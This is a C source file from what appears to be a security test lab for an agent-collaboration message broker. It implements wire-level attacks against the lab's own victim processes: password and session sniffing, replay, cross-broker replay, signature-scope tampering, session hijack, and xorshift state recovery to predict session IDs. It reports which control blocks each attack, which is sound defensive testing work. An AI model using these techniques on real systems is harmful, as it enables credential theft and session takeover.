/*  att_wire.c: the attacks of an attacker who only sees the wire: sniff (plaintext
    transport), predict-session (V-001), hijack (V-004/V-024), replay (V-022), its cluster
    form cross-broker-replay (control 15) and tamper (HMAC scope). Each starts an in-process
   capture, then the victim, and works only from what crossed the wire. Under CURVE nothing is
   readable, and each says so. */
#include "attack.h"
#include "collab_clock.h"
#include "sniff.h"

#include <czmq.h>
#include <stdlib.h>
#include <string.h>

typedef struct {
    collab_sniffer_t *s;
    uint64_t encrypted; /* CURVE messages seen */
    uint64_t seen;
} wire_t;

static int wire_open(wire_t *w, const attack_opts_t *o, verdict_t *v)
{
    char err[256];
    memset(w, 0, sizeof *w);
    w->s = collab_sniffer_open_live(o->iface, (uint16_t)o->port, err, sizeof err);
    if (!w->s)
        return verdict(v, ATTACK_ERROR, "cannot capture on %s: %s", o->iface, err);
    lab_say("capturing on %s, port %d", o->iface, o->port);
    return 0;
}

/*  Waits for the next decoded message matching the predicate; NULL on deadline. */
typedef bool (*wire_pred)(const collab_sniff_msg_t *m, const void *arg);
static const collab_sniff_msg_t *wire_wait(wire_t *w, wire_pred pred, const void *arg,
                                           int timeout_ms)
{
    long long deadline = collab_mono_ms() + timeout_ms;
    const collab_sniff_msg_t *m;
    for (long long left; (left = deadline - collab_mono_ms()) > 0;) {
        if (collab_sniffer_next(w->s, &m, (int)left) != 0)
            continue;
        w->seen++;
        w->encrypted += m->encrypted;
        if (!m->encrypted && m->decode_rc == 0 && pred(m, arg))
            return m;
    }
    return NULL;
}

static bool is_request(const collab_sniff_msg_t *m, const void *action)
{
    return m->env.kind == COLLAB_KIND_REQUEST && collab_span_eq(m->env.action, action);
}

static bool is_reply_to(const collab_sniff_msg_t *m, const void *action)
{
    return m->env.kind == COLLAB_KIND_REPLY && strcmp(m->reply_to, action) == 0;
}

static bool has_session(const collab_sniff_msg_t *m, const void *unused)
{
    (void)unused;
    return m->env.kind == COLLAB_KIND_REQUEST && m->env.session_id.len > 0;
}

/*  The verdict when the wanted message never showed: nothing readable under CURVE (BLOCKED
    by transport); otherwise the attack could not run (ERROR), with a hint: the victim it
    started failed, or nothing on the bus did the work to capture. */
static int nothing_seen(const wire_t *w, const attack_opts_t *o, victim_t *vic, verdict_t *v,
                        const char *what)
{
    char last[200] = "", mech[160] = "";
    if (w->encrypted > 0)
        return blocked(v, "transport",
                       "nothing readable: %llu messages crossed the wire, all "
                       "encrypted (CURVE)",
                       (unsigned long long)w->encrypted);
    if (att_transport(o, mech, sizeof mech) == 0 && strcmp(mech, "CURVE") == 0) {
        victim_stop(vic);
        return blocked(v, "transport",
                       "nothing readable: the broker speaks CURVE (%llu messages seen, none "
                       "readable)",
                       (unsigned long long)w->seen);
    }
    int status = victim_wait(vic, 1000); /* its own exit code, or -1 when it still ran */
    if (status > 0) {
        victim_last_words(vic, last, sizeof last);
        return verdict(v, ATTACK_ERROR,
                       "no %s seen within %d ms: the victim coordinator1 failed (exit %d: %s); "
                       "pass --victim-passwords and --victim-credentials that match the broker",
                       what, o->timeout_ms * 3, status, last);
    }
    return verdict(v, ATTACK_ERROR,
                   "no %s seen within %d ms (%llu messages on port %d): is an agent working? "
                   "pass --victim-passwords so the attack starts its own victim, and check "
                   "--iface and --broker",
                   what, o->timeout_ms * 3, (unsigned long long)w->seen, o->port);
}

/*  BLOCKED by the control a broker refusal names, or ERROR when it names none (the
    refusal is then no defence of the lab, e.g. the victim's session had already ended). */
static int refused(verdict_t *v, int code, const char *what, collab_span_t text)
{
    const char *ctl = control_of(code, NULL);
    if (ctl)
        return blocked(v, ctl, "%s was refused: %.*s", what, (int)text.len, text.ptr);
    return verdict(v, ATTACK_ERROR, "%s was refused, by no control of the lab: %.*s (%s)", what,
                   (int)text.len, text.ptr, collab_errname(code));
}

static void copy_span(char *dst, size_t cap, collab_span_t s)
{
    snprintf(dst, cap, "%.*s", (int)(s.len < cap ? s.len : cap - 1), s.ptr);
}

/*  A string field of a reply's data or a request's payload. */
static bool map_field(collab_span_t map, const char *key, char *out, size_t cap)
{
    collab_map_t m;
    collab_span_t s;
    if (collab_map_parse(map.ptr, map.len, &m) != 0 || collab_map_str(&m, key, &s) != 0)
        return false;
    copy_span(out, cap, s);
    return true;
}

static void wire_close(wire_t *w, victim_t *vic)
{
    if (vic)
        victim_stop(vic);
    collab_sniffer_destroy(&w->s);
}

int attack_sniff(const attack_opts_t *o, verdict_t *v)
{
    wire_t w;
    victim_t vic;
    char pw[COLLAB_PASSWORD_MAX + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
    char sid[COLLAB_MAX_SESSION_ID + 1] = "";
    if (wire_open(&w, o, v) != 0)
        return v->outcome;
    const char *args[] = {"--duration-ms", "1500", NULL};
    victim_start(&vic, o, "coordinator1", "busy", args);
    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "login", o->timeout_ms * 3);
    if (m) {
        copy_span(agent, sizeof agent, m->env.agent_id);
        map_field(m->env.payload, "password", pw, sizeof pw);
        m = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3);
    }
    if (m)
        map_field(m->env.data, "session_id", sid, sizeof sid);
    collab_sniffer_destroy(&w.s);
    if (!pw[0] || !sid[0])
        return nothing_seen(&w, o, &vic, v, "login");
    victim_stop(&vic);
    return verdict(v, ATTACK_SUCCEEDED,
                   "read off the wire: %s's password '%s' and its session id %s", agent, pw, sid);
}

/*  Sends raw frames from a new connection (optionally from `source`) and decodes the
    reply. Returns 0 with the reply's envelope copied into rep_buf, or a negative code. */
static int send_raw(const attack_opts_t *o, const char *source, const void *frame, size_t len,
                    uint8_t *rep_buf, size_t cap, collab_envelope_t *rep)
{
    zsock_t *sock = zsock_new(ZMQ_DEALER);
    if (!sock)
        return COLLAB_E_IO;
    zsock_set_linger(sock, 0);
    int rc = source && *source ? zsock_connect(sock, "tcp://%s:0;%s:%d", source, o->host, o->port)
                               : zsock_connect(sock, "%s", o->broker);
    void *raw = zsock_resolve(sock);
    if (rc == 0 && zmq_send(raw, frame, len, 0) < 0)
        rc = COLLAB_E_IO;
    /* the reply, past the victim's events: under weak peer binding the broker pushes the
       session's events to the connection that used it last, which is now this one */
    long long deadline = collab_mono_ms() + o->timeout_ms;
    for (bool replied = false; rc == 0 && !replied;) {
        zmq_pollitem_t item = {raw, 0, ZMQ_POLLIN, 0};
        long long left = deadline - collab_mono_ms();
        int n =
            left > 0 && zmq_poll(&item, 1, (long)left) > 0 ? zmq_recv(raw, rep_buf, cap, 0) : -2;
        rc = n == -2 ? COLLAB_E_TIMEOUT : n < 0 || (size_t)n > cap ? COLLAB_E_TOO_LARGE : 0;
        if (rc == 0)
            rc = collab_envelope_decode(rep_buf, (size_t)n, rep);
        replied = rc == 0 && rep->kind == COLLAB_KIND_REPLY;
    }
    zsock_destroy(&sock);
    return rc;
}

/*  Copies a captured message's envelope frame (it is lent by the sniffer). */
static size_t keep_frame(const collab_sniff_msg_t *m, uint8_t *buf, size_t cap)
{
    collab_span_t f = m->frames[m->envelope_frame];
    if (f.len > cap)
        return 0;
    memcpy(buf, f.ptr, f.len);
    return f.len;
}

/*  Starts the victim coordinator1, which creates a project, and captures its signed
    create_project on o's wire into frame, and the project id its broker answered into orig
    ("?" when unseen). Returns the frame's length, or -1 with the verdict in v (the wire
    could not be opened, or nothing readable was seen). */
static long capture_create(const attack_opts_t *o, victim_t *vic, verdict_t *v, uint8_t *frame,
                           size_t cap, char *orig, size_t origcap)
{
    wire_t w;
    size_t len = 0;
    snprintf(orig, origcap, "?");
    if (wire_open(&w, o, v) != 0)
        return -1;
    victim_start(vic, o, "coordinator1", "create-project", NULL);
    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "create_project", o->timeout_ms * 3);
    if (m)
        len = keep_frame(m, frame, cap);
    if (m && (m = wire_wait(&w, is_reply_to, "create_project", o->timeout_ms * 3)) != NULL) {
        collab_map_t d;
        uint64_t id;
        if (collab_map_parse(m->env.data.ptr, m->env.data.len, &d) == 0 &&
            collab_map_uint(&d, "project_id", &id) == 0)
            snprintf(orig, origcap, "%llu", (unsigned long long)id);
    }
    wire_close(&w, NULL); /* the victim stays logged in, working */
    if (!len) {
        nothing_seen(&w, o, vic, v, "signed create_project");
        return -1;
    }
    return (long)len;
}

int attack_replay(const attack_opts_t *o, verdict_t *v)
{
    victim_t vic;
    static uint8_t frame[COLLAB_MAX_FRAME], rep_buf[COLLAB_MAX_FRAME];
    char orig[32];
    long got = capture_create(o, &vic, v, frame, sizeof frame, orig, sizeof orig);
    if (got < 0)
        return v->outcome;
    size_t len = (size_t)got;
    lab_say("captured the victim's signed create_project (%zu bytes); sending it again", len);
    collab_envelope_t rep;
    int rc = send_raw(o, NULL, frame, len, rep_buf, sizeof rep_buf, &rep);
    victim_stop(&vic);
    if (rc)
        return verdict(v, ATTACK_ERROR, "the replay got no reply: %s", collab_strerror(rc));
    if (!rep.ok)
        return refused(v, -(int)rep.error_code, "the replayed request", rep.error);
    collab_map_t d;
    uint64_t id = 0;
    if (collab_map_parse(rep.data.ptr, rep.data.len, &d) == 0)
        collab_map_uint(&d, "project_id", &id);
    return verdict(v, ATTACK_SUCCEEDED,
                   "the captured create_project, sent again from a new "
                   "connection, created project %llu (the original made %s)",
                   (unsigned long long)id, orig);
}

/*  Captures the victim's signed create_project on broker A's wire (o->port), then sends it,
    byte for byte, to broker B of the same cluster from a new connection. B's own nonce cache
    never saw it: only a cache that every broker shares (replay_scope strong) refuses it. */
int attack_cross_broker_replay(const attack_opts_t *o, verdict_t *v)
{
    victim_t vic;
    static uint8_t frame[COLLAB_MAX_FRAME], rep_buf[COLLAB_MAX_FRAME];
    static attack_opts_t b; /* the same attacker, aimed at broker B */
    char orig[32];
    if (!o->broker2[0])
        return verdict(v, ATTACK_ERROR,
                       "no second broker: cross-broker-replay needs --broker2 (a cluster of two)");
    long got = capture_create(o, &vic, v, frame, sizeof frame, orig, sizeof orig);
    if (got < 0)
        return v->outcome;
    size_t len = (size_t)got;
    lab_say("captured the victim's signed create_project on A (%zu bytes); sending it to B (%s)",
            len, o->broker2);
    b = *o;
    snprintf(b.broker, sizeof b.broker, "%s", o->broker2);
    snprintf(b.host, sizeof b.host, "%s", o->host2);
    b.port = o->port2;
    collab_envelope_t rep;
    int rc = send_raw(&b, NULL, frame, len, rep_buf, sizeof rep_buf, &rep);
    victim_stop(&vic);
    if (rc)
        return verdict(v, ATTACK_ERROR, "the replay on B got no reply: %s", collab_strerror(rc));
    if (!rep.ok && -(int)rep.error_code == COLLAB_E_REPLAY) /* B's own cache never saw it */
        return blocked(v, "replay_scope",
                       "B refused the request captured on A: %.*s (a nonce cache shared by the "
                       "cluster)",
                       (int)rep.error.len, rep.error.ptr);
    if (!rep.ok)
        return refused(v, -(int)rep.error_code, "the request replayed on B", rep.error);
    collab_map_t d;
    uint64_t id = 0;
    if (collab_map_parse(rep.data.ptr, rep.data.len, &d) == 0)
        collab_map_uint(&d, "project_id", &id);
    return verdict(v, ATTACK_SUCCEEDED,
                   "the create_project captured on broker A's wire, sent to broker B from a new "
                   "connection, created another project (%llu)",
                   (unsigned long long)id);
}

int attack_tamper(const attack_opts_t *o, verdict_t *v)
{
    wire_t w;
    victim_t vic;
    static uint8_t frame[COLLAB_MAX_FRAME], out[COLLAB_MAX_FRAME], rep_buf[COLLAB_MAX_FRAME];
    size_t len = 0, olen = 0;
    if (wire_open(&w, o, v) != 0)
        return v->outcome;
    victim_start(&vic, o, "coordinator1", "close-project", NULL);
    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "close_project", o->timeout_ms * 3);
    if (m)
        len = keep_frame(m, frame, sizeof frame);
    if (m)
        wire_wait(&w, is_reply_to, "close_project", o->timeout_ms * 3);
    wire_close(&w, NULL); /* the victim stays logged in, working */
    if (!len)
        return nothing_seen(&w, o, &vic, v, "signed close_project");
    collab_envelope_t env, rep;
    int drc = collab_envelope_decode(frame, len, &env);
    env.action = (collab_span_t){"delete_project", strlen("delete_project")};
    if (drc != 0 || collab_envelope_encode(&env, out, sizeof out, &olen) != 0) {
        victim_stop(&vic);
        return verdict(v, ATTACK_ERROR, "cannot re-encode the captured request");
    }
    lab_say("captured the victim's signed close_project; re-sending it as delete_project, "
            "payload and signature unchanged");
    int rc = send_raw(o, NULL, out, olen, rep_buf, sizeof rep_buf, &rep);
    victim_stop(&vic);
    if (rc)
        return verdict(v, ATTACK_ERROR, "no reply: %s", collab_strerror(rc));
    if (!rep.ok)
        return refused(v, -(int)rep.error_code, "the tampered request", rep.error);
    return verdict(v, ATTACK_SUCCEEDED,
                   "a captured signed close_project re-sent as delete_project "
                   "verified and deleted the project");
}

int attack_hijack(const attack_opts_t *o, verdict_t *v)
{
    wire_t w;
    victim_t vic;
    char sid[COLLAB_MAX_SESSION_ID + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
    if (wire_open(&w, o, v) != 0)
        return v->outcome;
    const char *args[] = {"--duration-ms", "4000", NULL};
    victim_start(&vic, o, "coordinator1", "busy", args);
    const collab_sniff_msg_t *m = wire_wait(&w, has_session, NULL, o->timeout_ms * 3);
    if (m) {
        copy_span(sid, sizeof sid, m->env.session_id);
        copy_span(agent, sizeof agent, m->env.agent_id);
    }
    collab_sniffer_destroy(&w.s);
    if (!sid[0])
        return nothing_seen(&w, o, &vic, v, "request with a session id");
    lab_say("read %s's session id off the wire; using it from %s", agent, o->source);
    collab_client_t *c = bare_client(o, agent, o->source);
    collab_client_set_session(c, sid);
    collab_reply_t r;
    int rc = att_call(c, &r, "get_session_info", NULL);
    char peer[80] = "";
    if (rc == 0) {
        map_field((collab_span_t){(const char *)r.data, r.data_len}, "peer_address", peer,
                  sizeof peer);
        collab_reply_free(&r);
    }
    collab_client_destroy(&c);
    victim_stop(&vic);
    if (rc == 0)
        return verdict(v, ATTACK_SUCCEEDED,
                       "%s's session, used from %s, answered an authenticated "
                       "read as %s (session bound to %s)",
                       agent, o->source, agent, peer);
    const char *text = collab_strerror(rc);
    return refused(v, rc, "the hijacked session", (collab_span_t){text, strlen(text)});
}

/*  The weak generator of LAB.md control 1, as an attacker models it. */
static uint64_t xorshift(uint64_t *x)
{
    *x ^= *x << 13;
    *x ^= *x >> 7;
    *x ^= *x << 17;
    return *x;
}

static bool parse_uuid(const char *s, uint8_t b[16])
{
    if (strlen(s) != 36)
        return false;
    for (int i = 0, k = 0; i < 36; i++) {
        if (i == 8 || i == 13 || i == 18 || i == 23) {
            if (s[i] != '-')
                return false;
            continue;
        }
        char hex[3] = {s[i], s[i + 1], 0};
        char *end;
        b[k++] = (uint8_t)strtoul(hex, &end, 16);
        if (*end)
            return false;
        i++;
    }
    return (b[6] >> 4) == 4 && (b[8] >> 6) == 2;
}

static uint64_t be64(const uint8_t *b)
{
    uint64_t v = 0;
    for (int i = 0; i < 8; i++)
        v = v << 8 | b[i];
    return v;
}

static void format_uuid(uint64_t a, uint64_t b, char out[37])
{
    uint8_t by[16];
    for (int i = 0; i < 8; i++) {
        by[i] = (uint8_t)(a >> (56 - 8 * i));
        by[8 + i] = (uint8_t)(b >> (56 - 8 * i));
    }
    by[6] = (by[6] & 0x0f) | 0x40;
    by[8] = (by[8] & 0x3f) | 0x80;
    snprintf(out, 37, "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x", by[0],
             by[1], by[2], by[3], by[4], by[5], by[6], by[7], by[8], by[9], by[10], by[11], by[12],
             by[13], by[14], by[15]);
}

/*  From one UUID, the generator's state after it: the 4 version bits of the first output
    are tried, and the second output's 62 visible bits confirm the guess. */
static bool recover_state(const uint8_t b[16], uint64_t *state)
{
    uint64_t a = be64(b), second = be64(b + 8), mask = ~(3ULL << 62);
    for (uint64_t n = 0; n < 16; n++) {
        uint64_t x = (a & ~(0xfULL << 12)) | (n << 12);
        uint64_t next = xorshift(&x);
        if ((next & mask) == (second & mask)) {
            *state = next;
            return true;
        }
    }
    return false;
}

int attack_predict_session(const attack_opts_t *o, verdict_t *v)
{
    wire_t w;
    victim_t vic;
    char sid[COLLAB_MAX_SESSION_ID + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
    if (wire_open(&w, o, v) != 0)
        return v->outcome;
    const char *args[] = {"--duration-ms", "3000", NULL};
    victim_start(&vic, o, "coordinator1", "relogin", args);
    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "login", o->timeout_ms * 3);
    if (m)
        copy_span(agent, sizeof agent, m->env.agent_id);
    if (m && (m = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3)) != NULL)
        map_field(m->env.data, "session_id", sid, sizeof sid);
    if (!sid[0]) {
        collab_sniffer_destroy(&w.s);
        return nothing_seen(&w, o, &vic, v, "login reply");
    }
    uint8_t b[16];
    uint64_t state;
    if (!parse_uuid(sid, b) || !recover_state(b, &state)) {
        wire_close(&w, &vic);
        return blocked(v, "session_ids",
                       "the observed session id (%zu characters) does not come "
                       "from a predictable generator",
                       strlen(sid));
    }
    char predicted[8][37];
    for (int i = 0; i < 8; i++) {
        uint64_t x = xorshift(&state), y = xorshift(&state);
        format_uuid(x, y, predicted[i]);
    }
    lab_say("observed %s's session id %s; predicted the next: %s", agent, sid, predicted[0]);
    /* wait until the victim's next login has been answered, without reading the answer */
    bool relogged = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3) != NULL;
    collab_sniffer_destroy(&w.s);
    int hit = -1, code = 0;
    for (int i = 0; i < 8 && hit < 0 && relogged; i++) {
        collab_client_t *c = bare_client(o, agent, NULL);
        collab_client_set_session(c, predicted[i]);
        int rc = att_call(c, NULL, "get_session_info", NULL);
        hit = rc == 0 ? i : -1;
        code = control_of(code, NULL) ? code : rc; /* a refusal that names a control wins */
        collab_client_destroy(&c);
    }
    victim_stop(&vic);
    if (!relogged)
        return verdict(v, ATTACK_ERROR, "the victim's next login was not seen within %d ms",
                       o->timeout_ms * 3);
    if (hit >= 0)
        return verdict(v, ATTACK_SUCCEEDED,
                       "from one observed id, predicted %s's next session id "
                       "%s (guess %d) and used it: get_session_info ok",
                       agent, predicted[hit], hit + 1);
    if (control_of(code, NULL))
        return blocked(v, control_of(code, NULL),
                       "the predicted ids were refused: %s (a session id alone is not enough)",
                       collab_strerror(code));
    return blocked(v, "session_ids", "none of the 8 predicted ids is a live session (last: %s)",
                   collab_strerror(code));
}
